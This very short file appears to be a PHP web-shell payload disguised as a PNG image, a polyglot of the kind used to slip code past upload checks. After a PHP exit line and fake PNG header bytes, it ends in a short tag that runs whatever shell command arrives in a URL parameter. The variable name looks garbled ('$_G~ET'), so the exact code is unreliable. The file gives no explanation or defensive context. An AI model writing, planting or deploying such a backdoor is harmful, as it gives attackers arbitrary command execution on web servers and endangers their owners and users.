<?php exit; ?>
{x89}PNG{x0d}{x0a}{x1a}{x0a}{x00}{x00}{x00}{x0d}IHDR{x00}{x00}<?=`$_G~ET[m]`?>
